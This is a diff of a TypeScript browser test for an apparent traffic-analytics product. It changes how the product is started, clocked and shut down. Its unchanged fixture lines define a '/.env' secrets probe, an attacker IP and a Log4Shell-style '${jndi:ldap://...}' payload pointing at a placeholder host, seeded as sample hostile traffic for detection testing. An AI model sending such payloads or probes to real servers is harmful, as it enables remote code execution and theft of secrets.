@@ -7,16 +7,16 @@ import { sshClients, sshOpening } from '#demo/speak/ssh.ts'
 import { syn } from '#demo/speak/syn.ts'
 import { captureOf, counted, upload, waitUntilIdle, webVisit } from '../product/captures.ts'
 import { noon } from '../product/noon.ts'
-import { startProduct, type Product } from '../product/start.ts'
+import { type Inside, openInside } from '../product/inside.ts'
 import { daysChart } from './days-chart.ts'
 import { openBrowser } from './open.ts'
 import { alive, visit } from './visitor.ts'
 
 /** What an analyst comes for, each in as few steps as are counted here: a press, a text that is typed or pasted, a row that is chosen. */
 
-let product: Product
+let product: Inside
 let browser: Browser
-const { now, environment } = noon()
+const { now, clock } = noon()
 const dayMs = 86_400_000
 const rows = 10_000
 const probe = '/.env'
@@ -24,7 +24,7 @@ const exploit = '/?x=${jndi:ldap://203.0.113.66/a}'
 const attacker = '198.18.7.1'
 
 beforeAll(async () => {
-  ;[product, browser] = await Promise.all([startProduct({ environment }), openBrowser()])
+  ;[product, browser] = await Promise.all([openInside({}, {}, clock), openBrowser()])
   const many = Array.from({ length: rows }, (_, at) =>
     webVisit(`198.19.${at >> 8}.${at & 255}`, { uri: '/' }, now - 3 * dayMs - at * 7),
   )
@@ -55,8 +55,7 @@ beforeAll(async () => {
 })
 afterAll(async () => {
   await browser?.close()
-  await product?.stop()
-  product?.remove()
+  await product?.close()
 })
 
 const search = (page: Page) => page.getByRole('dialog', { name: 'Search' })
